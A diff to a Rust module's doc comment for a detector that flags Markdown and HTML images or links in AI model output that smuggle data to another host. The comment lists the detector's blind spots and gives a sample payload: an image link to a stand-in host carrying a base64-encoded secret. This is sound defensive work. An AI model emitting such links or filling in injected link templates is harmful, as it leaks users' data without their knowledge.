@@ -1,17 +1,17 @@
 //! Links and images that carry data to another host.
 //!
-//! ## What it detects
+//! # What it detects
 //! Images (Markdown, HTML) with data in the query or path, links whose query holds a long or random
 //! value, and templates that tell a model to fill in such a link. Hosts of the policy's list pass.
-//! ## Why it matters
+//! # Why it matters
 //! A client that shows an image fetches it: the data is gone without a click.
-//! ## What it misses
+//! # What it misses
 //! Data in the host name of an allowed wildcard domain; one short value per link over many links.
-//! ## Example
+//! # Example
 //! `![x](https://host.example/p?d=c2VjcmV0...)`
-//! ## Remediation
+//! # Remediation
 //! List the hosts that answers may link to; render no remote images.
-//! ## References
+//! # References
 //! OWASP LLM02:2025, LLM05:2025; MITRE ATLAS AML.T0077.
 
 use std::ops::Range;
